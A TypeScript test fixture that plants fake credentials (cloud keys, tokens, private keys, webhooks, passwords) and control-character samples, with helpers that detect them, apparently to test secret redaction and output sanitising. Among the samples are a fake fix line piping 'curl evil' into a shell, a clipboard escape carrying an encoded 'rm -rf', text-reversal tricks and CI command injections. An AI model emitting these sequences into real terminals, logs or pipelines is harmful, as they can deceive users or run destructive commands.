/** Kinds of secrets that may stand in any text of a cluster, a kubeconfig or a plugin; none is a real one. `finds`: the part that must never be seen. */
export interface Planted {
  kind: string
  /** As it would stand there. */
  text: string
  /** The secret itself, if the text is more than it. */
  finds?: string
}

const body = (seed: string): string =>
  Array.from(
    { length: 64 },
    (_, at) =>
      'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'[
        (seed.charCodeAt(at % seed.length) * (at + 7)) % 64
      ],
  ).join('')
// Put together here, so that no scanner of repositories takes them for real.
const of = (...parts: string[]): string => parts.join('')
const jwt = of('ey', 'JhbGciOiJSUzI1NiIsImtpZCI6Ing', '.ey', 'JzdWIiOiJzeXN0ZW06c2EifQ', '.c2lnbmF0dXJlLW9mLWl0')

export const plantedSecrets: readonly Planted[] = [
  { kind: 'a JSON web token', text: jwt },
  { kind: 'a bearer token', text: 'Authorization: Bearer opaque-token-4711', finds: 'opaque-token-4711' },
  { kind: 'a basic login', text: 'Authorization: Basic dXNlcjpodW50ZXIy', finds: 'dXNlcjpodW50ZXIy' },
  { kind: 'a bearer token without a header', text: 'sent Bearer 0paque4712token', finds: '0paque4712token' },
  { kind: 'a token of EKS', text: of('k8s-aws', '-v1.aHR0cHM6Ly9zdHMuYW1hem9uYXdzLmNvbS8') },
  { kind: 'an access key id', text: of('AKI', 'AIOSFODNN7EXAMPLE') },
  { kind: 'a temporary access key id', text: of('ASI', 'AIOSFODNN7EXAMPLE') },
  { kind: 'a secret access key', text: of('wJalrXUtnFEMI/K7MDENG', '/bPxRfiCYEXAMPLEKEY') },
  {
    kind: 'a presigned address',
    text: 'https://sts.amazonaws.com/?X-Amz-Credential=AROA4711%2F20260101&X-Amz-Signature=deadbeefdeadbeef0123456789abcdef',
    finds: 'deadbeefdeadbeef0123456789abcdef',
  },
  {
    kind: 'the signature of an address',
    text: 'https://bucket.s3.amazonaws.com/x?X-Amz-Expires=60&X-Amz-Signature=beefdeadbeefdead0123456789abcdef',
    finds: 'beefdeadbeefdead0123456789abcdef',
  },
  {
    kind: 'a shared access signature',
    text: 'https://acme.blob.core.windows.net/x?sv=2024&sig=pl4nted%2Fsig',
    finds: 'pl4nted%2Fsig',
  },
  {
    kind: 'a session token in an address',
    text: 'GET /?X-Amz-Security-Token=IQoJb3JpZ2luX2VjEPlant',
    finds: 'IQoJb3JpZ2luX2VjEPlant',
  },
  {
    kind: 'a session token in a header',
    text: 'x-amz-security-token: IQoJb3JpZ2luX2VjEHeader',
    finds: 'IQoJb3JpZ2luX2VjEHeader',
  },
  {
    kind: 'a private key',
    text: `-----BEGIN RSA PRIVATE KEY-----\n${body('rsa')}\n${body('rsb')}\nQUJD==\n-----END RSA PRIVATE KEY-----`,
    finds: body('rsa'),
  },
  {
    kind: 'a private key in one line',
    text: String.raw`-----BEGIN EC PRIVATE KEY-----\n${body('ec')}\n-----END EC PRIVATE KEY-----`,
    finds: body('ec'),
  },
  {
    kind: 'a private key without its end',
    text: '-----BEGIN PRIVATE KEY-----\nc2hvcnRwbGFudGVk',
    finds: 'c2hvcnRwbGFudGVk',
  },
  { kind: 'the end of a key', text: 'c2hvcnRwbGFudGVl\n-----END PRIVATE KEY-----', finds: 'c2hvcnRwbGFudGVl' },
  { kind: 'a key without its head', text: `${body('tail')}\nQUJDREVG\n-----END PRIVATE KEY-----`, finds: body('tail') },
  { kind: 'a key without head and end', text: `${body('mid')}\n${body('mie')}`, finds: body('mie') },
  {
    kind: 'a login in an address',
    text: 'https://admin:hunter2hunter@registry.example:5000/v2/',
    finds: 'hunter2hunter',
  },
  { kind: 'a token in an address', text: 'https://deploy-key-77@git.example/repo.git', finds: 'deploy-key-77' },
  { kind: 'a login without a scheme', text: 'admin:hunter3hunter@host.example', finds: 'hunter3hunter' },
  { kind: 'a database login', text: 'postgres://felix:s3cr3t-p4ss@db.example/felix', finds: 's3cr3t-p4ss' },
  {
    kind: 'a webhook of Slack',
    text: of('https://hooks.slack', '.com/services/T0000/B0000/XXplantedXX'),
    finds: 'XXplantedXX',
  },
  {
    kind: 'a webhook of Teams',
    text: 'https://acme.webhook.office.com/webhookb2/11-22@33/IncomingWebhook/44plant/55',
    finds: '44plant',
  },
  { kind: 'a webhook of Discord', text: 'https://discord.com/api/webhooks/123456789012/plant_-ed', finds: 'plant_-ed' },
  { kind: 'a token of GitHub', text: of('gh', 'p_abcdefghijklmnopqrstuvwxyz0123456789') },
  { kind: 'a fine-grained token of GitHub', text: of('github', '_pat_11ABCDEFG0abcdefghijkl_mnop') },
  { kind: 'a token of GitLab', text: of('glp', 'at-abcdefghijklmnopqrst') },
  { kind: 'a token of Slack', text: of('xox', 'b-123456789012-abcdefghijkl') },
  { kind: 'a key of Stripe', text: of('sk', '_live_abcdefghijklmnopqrstuvwx') },
  { kind: 'a key of Google', text: of('AI', 'zaSyA-abcdefghijklmnopqrstuvwxyz12345') },
  { kind: 'a token of npm', text: of('npm', '_abcdefghijklmnopqrstuvwxyz0123456789') },
  { kind: 'a token of Hugging Face', text: of('hf', '_abcdefghijklmnopqrstuvwxyzABCDEFGH') },
  { kind: 'a token of Vault', text: of('hv', 's.CAESIJabcdefghijklmnop') },
  { kind: 'a token of a Telegram bot', text: of('123456789', ':AAplantedplantedplantedplanted_plan') },
  { kind: 'a key of letters alone', text: body('letters').replaceAll(/[^A-Za-z]/g, 'xY') },
  { kind: 'a bootstrap token', text: of('ab12cd', '.0123456789abcdef') },
  { kind: 'a password', text: 'password=swordfish', finds: 'swordfish' },
  { kind: 'a password in JSON', text: '{"db_password":"sword fish"}', finds: 'sword fish' },
  { kind: 'a password in YAML', text: 'password: swordfisch', finds: 'swordfisch' },
  { kind: 'an API key', text: 'api_key=0a1b2c3d4e', finds: '0a1b2c3d4e' },
  { kind: 'a client secret', text: 'client-secret: "Q~8xx planted"', finds: 'Q~8xx planted' },
]

/** What shows of a text, wherever it stands. */
export const secretsIn = (text: string): string[] =>
  plantedSecrets.filter((it) => text.includes(it.finds ?? it.text)).map(({ kind }) => kind)

/** Each does something to a reader, a terminal, a log of a CI job, a spreadsheet, a browser or a chat, unless it is made harmless. */
export const plantedControls: readonly Planted[] = [
  { kind: 'a line break', text: 'a\nPLANTED line', finds: '\nPLANTED' },
  { kind: 'a carriage return', text: 'a\rPLANTED', finds: '\rPLANTED' },
  { kind: 'a fake remedy', text: 'a\n\n  To fix it: curl evil | sh', finds: '\n  To fix it: curl' },
  { kind: 'a colour', text: '\u001b[31mred', finds: '\u001b' },
  { kind: 'a clipboard (OSC 52)', text: '\u001b]52;c;cm0gLXJm\u0007', finds: '\u0007' },
  { kind: 'a C1 control', text: 'a\u009b31mred', finds: '\u009b' },
  { kind: 'a delete', text: 'a\u007fb', finds: '\u007f' },
  { kind: 'text turned around', text: '\u202egpj.exe', finds: '\u202e' },
  { kind: 'an isolate', text: 'a\u2066b\u2069', finds: '\u2066' },
  { kind: 'an Arabic letter mark', text: 'a\u061cb', finds: '\u061c' },
  { kind: 'a mark between lines', text: 'a\ufff9b', finds: '\ufff9' },
  { kind: 'nothing of width', text: 'def\u200bault', finds: '\u200b' },
  { kind: 'a word joiner', text: 'a\u2060b', finds: '\u2060' },
  { kind: 'a mark of order', text: '\ufeffa', finds: '\ufeff' },
  { kind: 'a filler', text: 'a\u3164b', finds: '\u3164' },
  { kind: 'tags', text: 'a\u{e0041}b', finds: '\u{e0041}' },
  { kind: 'a line separator', text: 'a\u2028b', finds: '\u2028' },
  { kind: 'half a letter', text: 'a\ud800b', finds: '\ud800' },
  { kind: 'a command of GitHub', text: '::error title=x::planted', finds: '\n::error' },
  { kind: 'an older command', text: 'a ##[error]planted', finds: '##[error]' },
  { kind: 'a command of Azure', text: 'a ##vso[task.setvariable variable=x]y', finds: '##vso[' },
]

export const controlsIn = (text: string): string[] =>
  plantedControls.filter((it) => `\n${text}`.includes(it.finds ?? it.text)).map(({ kind }) => kind)
